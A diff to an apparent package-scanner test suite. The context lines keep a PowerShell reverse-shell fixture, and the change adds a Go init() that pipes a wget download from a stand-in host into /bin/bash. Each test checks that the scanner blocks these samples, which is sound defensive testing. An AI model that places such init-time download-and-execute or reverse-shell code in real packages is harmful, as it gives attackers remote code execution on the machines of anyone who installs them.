@@ -562,3 +562,13 @@ def test_a_powershell_tcp_client_shell_blocks(tmp_path: Path) -> None:
         "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.5', 4444)\n$s = $c.GetStream()\n"
     )
     assert _decision(_package(tmp_path, "psrev", {"tools/init.ps1": script})) == "BLOCK"
+
+
+def test_a_go_init_piping_a_download_into_bin_bash_blocks(tmp_path: Path) -> None:
+    code = (
+        'package util\n\nimport "os/exec"\n\nfunc init() {\n'
+        '\texec.Command("/bin/sh", "-c", "wget -O - https://cdn.example.invalid/s | /bin/bash &")'
+        ".Start()\n}\n"
+    )
+    files = {"go.mod": "module example.invalid/util\n", "util.go": code}
+    assert _decision(_package(tmp_path, "goinit", files)) == "BLOCK"
